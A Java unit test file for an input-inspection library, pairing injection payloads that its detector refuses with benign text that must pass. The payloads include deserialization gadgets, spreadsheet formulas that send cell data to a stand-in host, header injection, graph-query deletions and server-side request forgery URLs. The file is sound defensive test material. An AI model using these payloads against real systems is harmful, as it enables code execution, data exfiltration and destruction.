package dev.rampart.domain.inspection;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.domain.inspection.grammar.Indicator;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attacks without a class of their own, each kind beside the honest text that resembles it. */
final class OtherAttacksTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "rO0ABXNyABBqYXZhLnV0aWwuVHJlZU1hcA",
        "session=rO0ABXNyABBqYXZhLnV0aWwuVHJlZU1hcA",
        "aced000573720010",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAA",
        "gASVJwAAAAAAAACMBXBvc2l4lIwGc3lzdGVt",
        "BAhvOg1HYWRnZXQ6",
        "O:6:\"Logger\":1:{s:4:\"path\";s:5:\"x.php\";}",
        "a:1:{i:0;O:6:\"Logger\":0:{}}",
        "{\"x\":\"_$$ND_FUNC$$_function(){require('fs')}()\"}",
        "!!python/object/apply:os.popen [\"uptime\"]",
        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://203.0.113.5/\"]]",
        "--- !ruby/object:Gem::SpecFetcher\nx: y",
        "cposix\nsystem\n(S'uptime'\ntR.",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.5/x\"}",
      })
  void a_serialized_object_is_refused(String value) {
    assertRefusedAsOther(value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|'/c notepad'!A1",
        "-1+cmd|'/c notepad'!A1",
        "=HYPERLINK(\"http://203.0.113.5/?\"&A1,\"more\")",
        "+IMPORTXML(\"http://203.0.113.5/\",\"//a\")",
        "=WEBSERVICE(\"http://203.0.113.5/\"&B2)",
        "@DDE(\"cmd\";\"/c notepad\";\"\")",
      })
  void a_formula_that_reaches_out_is_refused(String value) {
    assertRefusedAsOther(value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a%0d%0aSet-Cookie:%20role=root",
        "a%0d%0aAccess-Control-Allow-Origin:%20*",
        "a%0aLocation: https://203.0.113.5/",
        "a\r\nSet-Cookie: role=root",
        "ann@example.com%0aBcc:%20all@example.com",
      })
  void a_header_behind_a_line_end_is_refused(String value) {
    assertRefusedAsOther(value);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{__schema{types{name}}}",
        "query{__type(name:\"Order\"){fields{name}}}",
        "' OR 1=1 RETURN m //",
        "a'}) MATCH (m) DETACH DELETE m //",
        "a'}) CALL db.labels() YIELD label RETURN label //",
        "g.V().drop()",
      })
  void a_query_over_a_graph_is_refused(String value) {
    assertRefusedAsOther(value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"{\"py/object\":\"os.system\"}", "{\"py/reduce\": [{}]}"})
  void a_member_that_jsonpickle_acts_on_is_refused(String value) {
    assertRefusedAsOther(value);
  }

  @ParameterizedTest
  @ValueSource(strings = {"{\"src/main.py\": 3}", "the folder \"py/lib\" or py/object"})
  void a_path_of_python_is_no_such_member(String value) {
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\")]|//user|/x[contains(y,\"z", "a'] | //user/mail | b['c"})
  void a_path_through_xml_that_ends_another_is_found(String value) {
    assertThat(Inspected.indicators(value)).contains(Indicator.XPATH_BREAKOUT);
    assertThat(Inspected.isRefused(value)).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"//item[@id='7']/name", "a['b'] | c['d']", "x = ['a'] or ['b']"})
  void a_path_through_xml_that_ends_nothing_is_not(String value) {
    assertThat(Inspected.indicators(value)).doesNotContain(Indicator.XPATH_BREAKOUT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"role\":\"guest\",\"name\":\"ann\",\"role\":\"root\"}",
        "{\"a\": [1, {\"b\": 2}], \"a\": []}",
      })
  void a_member_twice_in_an_object_is_found(String value) {
    assertThat(Inspected.indicators(value)).contains(Indicator.JSON_TWICE);
    assertThat(Inspected.prose(value).attack()).contains(Attack.NOSQL);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"name\":\"ann\",\"child\":{\"name\":\"bob\"}}",
        "[{\"id\":1},{\"id\":2}]",
        "{\"a\":{\"id\":1},\"b\":{\"id\":2}}",
        "{\"id\":\"id\"}",
      })
  void a_member_in_each_of_two_objects_is_not(String value) {
    assertThat(Inspected.indicators(value)).doesNotContain(Indicator.JSON_TWICE);
  }

  @ParameterizedTest
  @ValueSource(strings = {"http://localhost:7000/admin", "http://10.2.3.4/", "http://[::1]:80/"})
  void the_url_of_an_inner_host_alone_is_refused(String value) {
    assertThat(Inspected.indicators(value)).contains(Indicator.URL_WHOLE);
    assertThat(Inspected.prose(value).attack()).contains(Attack.SSRF);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "My printer at http://192.168.2.9/status does not answer.",
        "Since today http://localhost:7000/admin shows a blank page.",
      })
  void the_url_of_an_inner_host_in_a_sentence_passes(String value) {
    assertThat(Inspected.indicators(value)).doesNotContain(Indicator.URL_WHOLE);
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"[[${9*9}]]", "[(${9*9})]"})
  void a_template_in_brackets_is_refused(String value) {
    assertThat(Inspected.prose(value).attack()).contains(Attack.SSTI);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "The ratio is 8:1; see O:8 in the plan.",
        "when: !Sub \"${AWS::StackName}-bucket\"\nbig: !!str 12",
        "wow!!such/a thing: yes!",
        "sin\ncos\ntan",
        "{\"@context\":\"https://schema.org\",\"@type\":\"Person\",\"name\":\"Ann\"}",
        "=A1+B1",
        "=SUM(B2:B9)/COUNT(B2:B9)",
        "- one item\n- another",
        "+49 30 123456",
        "-5 % on everything",
        "@ann please look",
        "To: Bob\nSubject: lunch\nLocation: canteen",
        "Which ones match (a) or (b)? Please return both.",
        "query { order(id: 7) { total } } returns null",
        "The mutation of the virus was a surprise.",
      })
  void what_resembles_it_passes(String value) {
    assertThat(Inspected.isRefused(value)).isFalse();
  }

  private static void assertRefusedAsOther(String value) {
    Verdict verdict = Inspected.prose(value);
    assertThat(verdict.refusedIn(FieldKind.PROSE)).isTrue();
    assertThat(verdict.attack()).contains(Attack.OTHER);
  }
}
